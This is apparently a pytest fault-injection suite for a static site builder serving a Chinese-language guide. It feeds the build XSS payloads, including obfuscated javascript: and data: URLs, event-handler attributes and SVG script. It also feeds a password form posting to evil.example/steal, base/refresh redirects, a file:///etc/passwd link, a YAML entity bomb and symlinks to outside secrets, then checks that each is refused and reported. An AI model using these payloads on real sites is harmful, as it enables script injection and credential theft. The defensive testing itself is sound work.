"""Fault injection: each class of hostile or broken input, in several disguises, through a real build.

One small site per class keeps the number of builds low; every variant sits on
its own line or in its own file, so each message can still be told apart. Each
test asserts what an editor and a reader would notice: the build fails, the
message names the file (and line), and nothing dangerous reaches the built site.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path

from conftest import BASE_PAGES, BuildResult
from guidekit.html_safety import classify_address

PROBLEM = "problems/two-skins.md"


class Markup(HTMLParser):
    """Every element, attribute and script/style text of a built page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.code: list[str] = []
        self._in_code = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._in_code = tag in ("script", "style")

    def handle_endtag(self, tag):
        self._in_code = False

    def handle_data(self, data):
        if self._in_code:
            self.code.append(data)


def parse(html: str) -> Markup:
    markup = Markup()
    markup.feed(html)
    markup.close()
    return markup


def built_fragments(result: BuildResult) -> dict[str, str]:
    """Every built HTML page, and every title and text of the search index (Material renders them as HTML)."""
    fragments = {p.relative_to(result.site).as_posix(): p.read_text(encoding="utf-8")
                 for p in result.site.rglob("*.html")}
    index = json.loads((result.site / "search/search_index.json").read_text(encoding="utf-8"))
    for number, doc in enumerate(index["docs"]):
        fragments[f"search #{number} {doc['location']}"] = doc["title"] + doc["text"]
    return fragments


def article(html: str) -> str:
    """The page content (the theme's own header has a search form and meta tags of its own)."""
    return html.split("<article", 1)[-1].split("</article>", 1)[0]


def assert_nothing_dangerous(result: BuildResult, marker: str = "alert(") -> None:
    """No event handler, no script with the payload, no address with a refused scheme, anywhere;
    and no form, base, object, embed, iframe or refresh in any page's content."""
    for name, html in built_fragments(result).items():
        for tag, attrs in parse(article(html)).tags:
            assert tag not in ("form", "base", "object", "embed", "iframe"), f"{name}: <{tag}>"
            # the print-site plugin puts its own stylesheet inside its article
            assert tag not in ("link", "style") or name == "print_page/index.html", f"{name}: <{tag}>"
            assert not (tag == "meta" and "http-equiv" in attrs), f"{name}: <meta http-equiv>"
        markup = parse(html)
        for tag, attrs in markup.tags:
            handlers = [a for a in attrs if a.startswith("on")]
            assert not handlers, f"{name}: <{tag}> has {handlers}"
            for attribute in ("href", "src", "action", "formaction", "data"):
                if attribute in attrs and tag in ("a", "img", "form", "object", "iframe", "embed"):
                    kind = classify_address(attrs[attribute]).kind
                    assert kind != "scheme", f"{name}: <{tag} {attribute}={attrs[attribute]!r}>"
            assert "url(" not in attrs.get("style", ""), f"{name}: <{tag} style={attrs['style']!r}>"
        assert not any(marker in code for code in markup.code), f"{name}: a script or style runs the payload"


def text_of(html: str) -> str:
    parts: list[str] = []
    parser = HTMLParser()
    parser.handle_data = parts.append
    parser.feed(html)
    return "".join(parts)


def line_of(text: str, needle: str) -> int:
    return next(n for n, line in enumerate(text.split("\n"), 1) if needle in line)


def assert_reported(result: BuildResult, code: str, path: str, text: str, *mentions: str) -> None:
    """The build failed and one message names this rule and file, and each of `mentions`.

    With the page's `text`, the first mention locates the line the message must name as well.
    """
    assert result.returncode != 0, result.output
    assert "Traceback" not in result.output, result.output
    if text:
        where, mentions = f"[{code}] docs/{path}:{line_of(text, mentions[0])}", mentions[1:]
    else:
        where = f"[{code}] docs/{path}"
    lines = [line for line in result.output.splitlines() if where + " " in line]
    assert lines, f"no {where} in:\n{result.output}"
    assert any(all(m in line for m in mentions) for line in lines), (mentions, lines)


LINKS = """\
---
title: 链接
---

# 链接

[一](javascript:alert(1))

[二](JaVaScRiPt:alert(2))

<a href="jav&#x61;script:alert(3)">三</a>

<a href="&#106;avascript:alert(4)">四</a>

<a href=" java&#x09;script:alert(5)">五</a>

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">六</a>

<A HREF="VBScript:msgbox(7)">七</A>

[八](file:///etc/passwd)

[九][ref]

- 列表里的[十](javascript:alert(10))

> 引用里的 <a href="javascript&colon;alert(12)">十二</a>

| 表格 |
| --- |
| [十三](  javascript:alert(13)  ) |

[十四](../index.md){ href="javascript:alert(14)" }

![十五](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTUpPg==)

<img src="//cdn.example.org/x.png" alt="十六">

<a href="/\\evil.example/">十七</a>

[十八](/guide/)

[ref]: javascript:alert(9)
"""


def test_links_and_addresses_by_allowlist(fixture_site):
    front_matter_link = BASE_PAGES[PROBLEM].replace("summary: 党建和业务各干各的。",
                                                    'summary: "[点我](javascript:alert(20))"')
    result = fixture_site({"guide/links.md": LINKS, PROBLEM: front_matter_link})
    page = "guide/links.md"
    for needle, address in [("alert(1)", "javascript:alert(1)"), ("alert(2)", "JaVaScRiPt:alert(2)"),
                            ("alert(3)", "javascript:alert(3)"), ("alert(4)", "javascript:alert(4)"),
                            ("alert(5)", "script:alert(5)"), ("base64,PHNjcmlwdD5", "data:text/html"),
                            ("msgbox(7)", "VBScript:msgbox(7)"), ("file:///", "file:///etc/passwd"),
                            ("alert(9)", "javascript:alert(9)"), ("alert(10)", "javascript:alert(10)"),
                            ("alert(12)", "javascript:alert(12)"), ("alert(14)", "javascript:alert(14)"),
                            ("base64,PHN2Zy", "data:image/svg+xml"), ("(/guide/)", "/guide/")]:
        assert_reported(result, "G042", page, LINKS, needle, address)
    assert "alert(13)" in result.output  # a table cell: the address is named even where the line is ambiguous
    assert_reported(result, "G044", page, LINKS, "cdn.example.org", "//cdn.example.org/x.png")
    assert_reported(result, "G046", page, LINKS, "evil.example", "evil.example")
    assert "[G04" not in "".join(line for line in result.output.splitlines() if "two-skins" in line)
    assert_nothing_dangerous(result)
    lead = result.html("problems/two-skins/index.html")
    assert "[点我](javascript:alert(20))" in lead  # front matter stays text, shown as written


RAW_HTML = """\
---
title: 网页元素
---

# 网页元素

<form action="https://evil.example/steal" method="post"><input type="password" name="p"></form>

<meta http-equiv="refresh" content="0; url=https://evil.example/">

<base href="https://evil.example/">

<link rel="stylesheet" href="https://evil.example/x.css">

<object data="x.swf"></object>

<embed src="x.swf">

<svg><script>alert(1)</script></svg>

<Iframe src="x.html"></Iframe>

<style>@import url(https://evil.example/x.css);</style>

<p>段落<img src="a.png" OnErRoR="alert(3)"></p>

<details ontoggle="alert(4)" open><summary>展开</summary>内容</details>

<span style="background:url(https://evil.example/t.png)">样式</span>

<span style="color:red; background-image: u\\72l(x.png)">转义</span>

带属性的段落
{: onclick="alert(5)" }

!!! note "提示"
    提示里 <img src="b.png" onload="alert(6)">

<div markdown>
**粗体** <a href="../index.md" onmouseover="alert(7)">链接</a>
</div>

<sCrIpT >alert(8)</SCRIPT>
"""


def test_raw_html_by_allowlist(fixture_site):
    result = fixture_site({"guide/raw.md": RAW_HTML})
    page = "guide/raw.md"
    for needle, named in [("<form", "`<form>`"), ("<meta", "`<meta>`"), ("<base", "`<base>`"),
                          ("<link", "`<link>`"), ("<object", "`<object>`"), ("<embed", "`<embed>`"),
                          ("<svg>", "`<svg>`"), ("<svg><script>", "`<script>`"), ("<Iframe", "`<iframe>`"),
                          ("<style>", "`<style>`")]:
        assert_reported(result, "G040", page, RAW_HTML, needle, named)
    for needle, named in [('type="password"', 'type="password"'), ("OnErRoR", "`onerror`"),
                          ("ontoggle", "`ontoggle`"), ('onclick="alert(5)"', "`onclick`"),
                          ('onload="alert(6)"', "`onload`"), ("onmouseover", "`onmouseover`")]:
        assert_reported(result, "G041", page, RAW_HTML, needle, named)
    assert_reported(result, "G043", page, RAW_HTML, "t.png", "url(")
    assert_reported(result, "G043", page, RAW_HTML, "u\\72l", "转义")
    assert_nothing_dangerous(result)
    article = result.html("guide/raw/index.html")
    assert "<strong>粗体</strong>" in article and "段落" in article  # the allowed rest is still there


PAYLOADS = {
    PROBLEM: ("---\ntitle: <img src=x onerror=alert(1)>两张皮\nsummary: </title><script>alert(2)</script>\n"
              "sources: [s002]\ncauses: [business-over-party]\n"
              "tags: [\"<b onmouseover=alert(3)>融合发展</b>\"]\n---\n\n## 表现\n\n脱节。\n"),
    "sources/s002.md": ("---\ntitle: '\"><svg onload=alert(4)>'\nsummary: '&lt;script&gt;alert(5)&lt;/script&gt;'\n"
                        "author: <a href=javascript:alert(6)>作者</a>\noutlet: <!--x--><b>刊物</b>\n"
                        "date: \"2021-09-15\"\nkind: <i onclick=alert(7)>汇编</i>\n---\n\n## 基本信息\n\n汇编。\n"),
    "measures/four-togethers.md": BASE_PAGES["measures/four-togethers.md"].replace(
        "summary: 党建与业务一起谋划。", "summary: '\" onmouseover=\"alert(8)'"),
    "cases/nchu.md": BASE_PAGES["cases/nchu.md"].replace(
        "title: 南昌航空大学", "title: 南昌<script>alert(9)</script>航空大学"),
    "index.md": "---\ntitle: <i onclick=alert(10)>首页</i>\nsummary: <b>x</b>\n---\n\n欢迎阅读。\n",
    "guide/hidden.md": "---\ntitle: 隐藏\nhide: [\"<script>alert(11)</script>\"]\n---\n\n正文。\n",
}
FIELDS = {PROBLEM: ("title", "summary", "tags"), "sources/s002.md": ("title", "summary", "author", "outlet", "kind"),
          "cases/nchu.md": ("title",), "index.md": ("title", "summary"), "guide/hidden.md": ("hide",)}


def test_every_front_matter_value_is_text_on_every_built_page(fixture_site):
    result = fixture_site(PAYLOADS)
    for path, fields in FIELDS.items():
        for field in fields:
            assert_reported(result, "G061", path, PAYLOADS[path], f"{field}:", f"字段 `{field}`")
    assert_nothing_dangerous(result)
    measure = result.html("measures/four-togethers/index.html")
    description = next(attrs["content"] for tag, attrs in parse(measure).tags
                       if tag == "meta" and attrs.get("name") == "description")
    assert description == '" onmouseover="alert(8)'  # the attribute stayed whole; the text is intact
    cards = result.html("problems/index.html")
    assert "alert(1)" in cards and "两张皮" in cards  # the card shows the title, as text


TRADITIONAL = {
    PROBLEM: BASE_PAGES[PROBLEM].replace("title: 党建与业务“两张皮”", "title: 黨建與業務“兩張皮”")
    .replace("脱节[^s002]。", "脱节[^s002]。\n\n- 列表中的組織生活\n\n| 表 |\n| --- |\n| 單位 |\n\n### 標題"),
    "cases/nchu.md": BASE_PAGES["cases/nchu.md"].replace("summary: 支部建在学科上。", "summary: 支部建在學科上。"),
    "guide/names.md": "---\ntitle: 人名\n---\n\n杨乾同志、著名的於氏与乾坤都是正确的写法。\n",
}


def test_traditional_characters_are_refused_with_the_simplified_form(fixture_site):
    result = fixture_site(TRADITIONAL)
    page = TRADITIONAL[PROBLEM]
    assert_reported(result, "G047", PROBLEM, page, "title:", "字段 `title`", "黨 → 党", "兩 → 两")
    assert_reported(result, "G047", PROBLEM, page, "組織生活", "組 → 组", "織 → 织")
    assert_reported(result, "G047", PROBLEM, page, "單位", "單 → 单")
    assert_reported(result, "G047", PROBLEM, page, "標題", "標 → 标")
    assert_reported(result, "G047", "cases/nchu.md", TRADITIONAL["cases/nchu.md"], "summary:", "學 → 学")
    assert "guide/names.md" not in result.output


def test_files_that_are_not_what_they_seem(fixture_site, tmp_path: Path):
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    outside.mkdir()
    (outside / "secret.md").write_text("---\ntitle: 机密\n---\n\nSECRET-7f3a 机密内容\n", encoding="utf-8")
    (outside / "key.txt").write_text("SECRET-7f3a key\n", encoding="utf-8")
    (outside / "folder").mkdir()
    (outside / "folder" / "page.md").write_text("SECRET-7f3a folder\n", encoding="utf-8")
    docs, includes = tmp_path / "docs", tmp_path / "includes"
    (docs / "guide").mkdir(parents=True)
    (docs / "guide" / "leak.md").symlink_to(outside / "secret.md")
    (docs / "key.txt").symlink_to(outside / "key.txt")
    (docs / "linked").symlink_to(outside / "folder", target_is_directory=True)
    includes.mkdir()
    (includes / "secret.md").symlink_to(outside / "secret.md")
    (includes / "binary.md").write_bytes(b"SECRET-7f3a\0binary\n")
    (includes / "old.md").write_text("说明\n繁體\n", encoding="utf-8")
    anchors = "---\ntitle: &t 标题\nsummary: *t\n---\n\n正文。\n"
    bomb = ("---\ntitle: 炸弹\na: &a [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]\n"
            + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 8)}]\n" for i in range(9))
            + "---\n\n正文。\n")
    snippet = BASE_PAGES["causes/business-over-party.md"] + '\n--8<-- "secret.md"\n\n--8<-- "binary.md"\n'
    result = fixture_site({
        "guide/nul.md": "---\ntitle: 空字节\n---\n\n正文\x00隐藏\n".encode(),
        "guide/utf16.md": "---\ntitle: 宽字符\n---\n\n正文\n".encode("utf-16"),
        "guide/anchors.md": anchors, "guide/bomb.md": bomb, "causes/business-over-party.md": snippet,
        "guide/page.html": "<script>alert(1)</script>", "images/x.JS": "alert(2)",
        "images/chart.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"><rect/></svg>',
    })
    assert_reported(result, "G048", "guide/leak.md", "", str(outside / "secret.md"))
    assert_reported(result, "G048", "key.txt", "")
    assert_reported(result, "G048", "linked/page.md", "")
    assert "[G048] includes/secret.md " in result.output
    assert "[G045] docs/causes/business-over-party.md" in result.output and "含有 NUL 字节" in result.output
    assert "[G049] includes/binary.md:1 " in result.output and "[G047] includes/old.md:2 " in result.output
    assert "[G049] docs/guide/nul.md:5 " in result.output and "[G001] docs/guide/utf16.md:1 " in result.output
    assert_reported(result, "G062", "guide/page.html", "")
    assert_reported(result, "G062", "images/x.JS", "")
    assert_reported(result, "G063", "images/chart.svg", "", "onload")
    for refused in ("guide/page.html", "images/x.JS", "images/chart.svg"):
        assert not (result.site / refused).exists(), refused
    assert_reported(result, "G060", "guide/anchors.md", anchors, "&t")
    assert_reported(result, "G060", "guide/bomb.md", bomb, "&a")
    for built in result.site.rglob("*"):
        if built.is_file():
            assert b"SECRET-7f3a" not in built.read_bytes(), built
    assert "SECRET-7f3a" not in result.output
    assert "隐藏" not in result.html("guide/nul/index.html")


ACCEPTED_PAGE = (
    "---\ntitle: 可以这样写\n---\n\n# 可以这样写\n\n"
    "见[举措](../measures/four-togethers.md)、[首页](../index.md)、<a href=\"../../cases/nchu/\">案例</a>、"
    "[邮件](mailto:dangjian@example.org)、[电话](tel:+86-10-12345678)、<a href=\"#ke-yi-zhe-yang-xie\">本页</a>。\n\n"
    "<span class=\"guide-note\">说明</span><br><sup>1</sup> <abbr title=\"释义\">缩写</abbr> "
    "<kbd>Ctrl</kbd> <span style=\"color: #c00; font-weight: bold\">强调</span>\n\n"
    "```html\n<script>alert(1)</script> <a href=\"javascript:x\">x</a>\n```\n\n"
    "R&D 与 A & B，3 < 5。\n\n![关系图](../images/chart.svg)\n"
)
ACCEPTED = {
    # an item page saved by Windows Notepad: BOM and CRLF line endings
    PROBLEM: ("\ufeff" + BASE_PAGES[PROBLEM]).replace("\n", "\r\n").encode("utf-8"),
    "guide/accepted.md": ACCEPTED_PAGE.replace("\n", "\r\n").encode("utf-8"),
    "measures/four-togethers.md": BASE_PAGES["measures/four-togethers.md"].replace(
        "title: 同规划、同部署", "title: 同规划、同部署 & “四同步”"),
    "images/chart.svg": ('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4">'
                         '<rect width="4" height="4" fill="#c00"/><text x="1" y="3">图</text></svg>'),
}


def test_accepted_forms_still_build(fixture_site):
    result = fixture_site(ACCEPTED)
    assert result.returncode == 0, result.output
    assert "WARNING" not in result.output and "ERROR" not in result.output, result.output
    assert "党建和业务各干各的。" in result.html("problems/two-skins/index.html")
    page = result.html("guide/accepted/index.html")
    for kept in ('href="mailto:dangjian@example.org"', 'href="tel:+86-10-12345678"', 'href="../../cases/nchu/"',
                 "R&amp;D 与 A &amp; B，3 &lt; 5", '<span class="guide-note">说明</span>'):
        assert kept in page, kept
    assert '<script>alert(1)</script> <a href="javascript:x">x</a>' in text_of(article(page))  # shown as code
    assert "<script>alert" not in page
    assert (result.site / "images/chart.svg").exists() and 'src="../../images/chart.svg"' in page
    measure = result.html("measures/four-togethers/index.html")
    assert "同规划、同部署 &amp; “四同步”" in article(measure) and "<title>同规划、同部署 &amp; “四同步” - " in measure
